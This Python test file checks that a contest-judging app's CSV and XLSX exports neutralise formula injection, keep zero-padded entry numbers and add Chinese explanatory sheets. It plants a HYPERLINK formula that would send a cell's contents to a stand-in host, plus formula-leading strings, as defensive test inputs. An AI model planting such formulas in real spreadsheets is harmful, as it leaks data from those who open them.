"""Spreadsheets never run what contestants or judges typed (formula injection in every
export); numbers keep their zeros, flags are Chinese, and the XLSX says how it was made."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, date, datetime
from typing import Any

import pytest
from flask.testing import FlaskClient
from openpyxl import load_workbook
from sqlalchemy.orm import Session

from judging import spreadsheet
from judging.exports import entries_table, scores_table
from judging.gallery import set_approved
from judging.ranking import TIE_AT_BOUNDARY
from judging.results import publish_snapshot, results, to_csv, to_json, to_xlsx
from judging.review import send_back
from judging.rounds import assign_round, assigned_entries, eligible_entries
from judging.scoring import save_score
from storage.models import Contest, Entry, Role, Round, User
from tests.factories import make_user, post_confirmed
from tests.test_judging_flow import FULL as FLOW_FULL
from tests.test_judging_flow import judged  # noqa: F401 - the fixture
from tests.test_judging_web import FULL, started_round

FORMULA = '=HYPERLINK("http://x/?"&C2,"点击查看")'
STARTS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"]


def csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def xlsx_cells(data: bytes) -> list[Any]:
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    return [cell for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("text", STARTS)
def test_csv_cells_that_start_like_a_formula_are_behind_an_apostrophe(text: str) -> None:
    cells = csv_cells(spreadsheet.to_csv(["title"], [[text], ["普通标题"], [-1.5]]))
    assert cells == ["title", "'" + text, "普通标题", "-1.5"]  # numbers stay numbers


@pytest.mark.parametrize("text", STARTS)
def test_xlsx_cells_that_start_like_a_formula_are_strings(text: str) -> None:
    cells = xlsx_cells(spreadsheet.to_xlsx(["title"], [[text], [3]], title="t"))
    assert [c.data_type for c in cells] == ["s", "s", "n"]
    # Excel shows the text as typed (XML keeps \r as \n); openpyxl wrote `=1` as a formula.
    assert cells[1].value.strip() == text.strip()


def assert_inert(response: Any, fmt: str) -> None:
    assert response.status_code == 200, response.status_code
    if fmt == "csv":
        cells = csv_cells(response.get_data(as_text=True))
        assert any(FORMULA in c for c in cells)
        assert not [c for c in cells if spreadsheet.is_formula_like(c)]
    else:
        cells = xlsx_cells(response.data)
        assert any(c.value == FORMULA for c in cells)
        assert not [c for c in cells if c.data_type == "f"]


def test_every_export_neutralises_formulas(
    client: FlaskClient, auth: Any, session: Session
) -> None:
    contest, judges, organizer, rnd = started_round(client, auth, session, seed=3)
    for entry in session.query(Entry).filter_by(contest_id=contest.id):
        entry.title = FORMULA
        entry.collective = "@" + FORMULA
    session.commit()
    for judge in judges:
        for entry in assigned_entries(session, rnd, judge.id):
            save_score(session, rnd, judge, entry, FULL, comment=FORMULA, submit=True)

    auth.login(organizer.username)
    for url in ("/admin/judging/results", "/admin/judging/scores", "/admin/entries"):
        for fmt in ("csv", "xlsx"):
            assert_inert(client.get(f"{url}.{fmt}"), fmt)
    desk = load_workbook(io.BytesIO(client.get("/admin/judging/results.xlsx").data))
    assert desk.sheetnames == ["results", "说明"]  # the desk's download explains itself too
    post_confirmed(client, "/admin/judging/close")
    published = post_confirmed(client, "/admin/judging/publish")
    snapshot = published.get_data(as_text=True).split('href="/announcements/')[1].split('"')[0]
    auth.logout()
    for fmt in ("csv", "xlsx"):
        assert_inert(client.get(f"/announcements/{snapshot}.{fmt}"), fmt)
    assert client.get(f"/announcements/{snapshot}.ods").status_code == 404


def test_results_exports_keep_zeros_name_flags_in_chinese_and_explain_themselves(
    session: Session,
    judged: tuple[Contest, Round, list[User]],  # noqa: F811
) -> None:
    contest, rnd, judges = judged
    contest.award_tiers = [{"name": "一等奖", "count": 1}, {"name": "二等奖", "share": 0.5}]
    contest.tie_break = ["appeal"]
    session.commit()
    assign_round(session, rnd, eligible_entries(session, contest), seed=4)
    for judge in judges:
        for entry in assigned_entries(session, rnd, judge.id):
            # Every entry gets the same sheet: one big tie across the 一等奖 line.
            save_score(session, rnd, judge, entry, dict(FLOW_FULL), "", submit=True)
    rows = results(session, rnd)
    assert all(TIE_AT_BOUNDARY in r.flags for r in rows)

    text = to_csv(rows)
    assert "tie_at_award_boundary" not in text and "获奖线并列" in text
    header, *body = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert header[:2] == ["名次", "编号"] and "评委人数" in header
    assert sorted(line[1] for line in body) == [f"{n:04d}" for n in range(1, 7)]
    assert json.loads(to_json(rows))[0]["flag_names"][0] == "获奖线并列"

    moment = datetime(2026, 12, 1, 4, 30, tzinfo=UTC)
    book = load_workbook(io.BytesIO(to_xlsx(rows, now=moment)))
    table, notes = book.worksheets
    numbers = [row[1] for row in table.iter_rows(min_row=2)]
    assert sorted(c.value for c in numbers) == [f"{n:04d}" for n in range(1, 7)]
    assert {c.data_type for c in numbers} == {"s"} and {c.number_format for c in numbers} == {"@"}
    assert notes.title == "说明"
    about = {row[0].value: row[1].value for row in notes.iter_rows(min_row=2)}
    assert about["活动"] == "评审测试" and about["评审轮次"] == "初评"
    assert about["计分方法"].startswith("去掉最高分和最低分后的平均分：去掉一个最高分")
    assert about["去分所需评委人数"].startswith("至少 5 人")
    assert about["每件作品评委人数（设定）"] == "3 人"
    assert about["每件作品评委人数（实际提交）"] == "3 人"
    assert about["奖项设置（按所列顺序评定）"] == "一等奖 1 件；二等奖 参评作品的 50%（四舍五入）"
    assert about["同分时依次比较"].startswith("感染力")
    assert about["导出时间"] == "2026-12-01 12:30:00（北京时间）"


def test_the_published_announcement_downloads_with_its_publicity_and_objection_contact(
    client: FlaskClient,
    session: Session,
    judged: tuple[Contest, Round, list[User]],  # noqa: F811
) -> None:
    contest, rnd, judges = judged
    contest.publicity_starts_on, contest.publicity_ends_on = date(2026, 12, 2), date(2026, 12, 8)
    contest.objection_office = "团市委创建青年文明号活动组委会办公室"
    contest.objection_phone = "0531-88886666"
    contest.objection_email = "youth@example.org"
    session.commit()
    assign_round(session, rnd, eligible_entries(session, contest), seed=7)
    for judge in judges:
        for entry in assigned_entries(session, rnd, judge.id):
            save_score(session, rnd, judge, entry, dict(FLOW_FULL), "", submit=True)
    snapshot = publish_snapshot(session, rnd)

    text = client.get(f"/announcements/{snapshot.id}.csv").get_data(as_text=True)
    lines = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert lines[0] == ["名次", "编号", "作品名称", "集体名称", "得分", "奖项"]  # the table alone
    assert {line[1] for line in lines[1:]} == {f"{n:04d}" for n in range(1, 7)}

    book = load_workbook(io.BytesIO(client.get(f"/announcements/{snapshot.id}.xlsx").data))
    table, notes = book.worksheets
    assert {row[1].value for row in table.iter_rows(min_row=2)} == {f"{n:04d}" for n in range(1, 7)}
    about = {row[0].value: row[1].value for row in notes.iter_rows(min_row=2)}
    assert about["公示期"] == "2026-12-02 至 2026-12-08"
    assert about["异议受理单位"] == "团市委创建青年文明号活动组委会办公室"
    assert about["异议联系电话"] == "0531-88886666"
    assert about["异议电子邮箱"] == "youth@example.org"
    assert "异议联系人" not in about  # not set, so not shown as empty
    assert about["校验码（SHA-256）"] == snapshot.sha256
    assert about["每件作品评委人数（实际提交）"] == "3 人"
    assert about["计分方法"].startswith("去掉最高分和最低分后的平均分")
    assert about["导出时间"].endswith("（北京时间）")


def test_entry_and_score_lists_write_numbers_with_their_zeros(
    session: Session,
    judged: tuple[Contest, Round, list[User]],  # noqa: F811
) -> None:
    contest, rnd, judges = judged
    assign_round(session, rnd, eligible_entries(session, contest), seed=2)
    judge = judges[1]
    save_score(
        session, rnd, judge, assigned_entries(session, rnd, judge.id)[0], FLOW_FULL, "", True
    )
    session.expire_all()  # the factory's entries hold their category as text until reloaded
    for header, body in (entries_table(session, contest), scores_table(session, rnd)):
        assert header[0] == "编号"
        assert body and all(isinstance(line[0], str) and len(line[0]) == 4 for line in body)
        assert {line[0] for line in body} <= {f"{n:04d}" for n in range(1, 7)}


def test_the_entry_list_names_status_and_review_in_chinese(
    session: Session,
    judged: tuple[Contest, Round, list[User]],  # noqa: F811
) -> None:
    contest, _rnd, _judges = judged
    first, second, *_rest = eligible_entries(session, contest)
    set_approved(session, first, True)
    send_back(session, second, "片头请去掉单位名称", make_user(session, Role.ORGANIZER))
    session.expire_all()
    header, body = entries_table(session, contest)
    rows = {line[0]: dict(zip(header, line, strict=True)) for line in body}
    approved, returned = rows[f"{first.number:04d}"], rows[f"{second.number:04d}"]
    assert approved["状态"] == "已就绪" and approved["审核"] == "已通过"
    assert not approved["退回原因"]
    assert returned["审核"] == "已退回" and returned["退回原因"] == "片头请去掉单位名称"
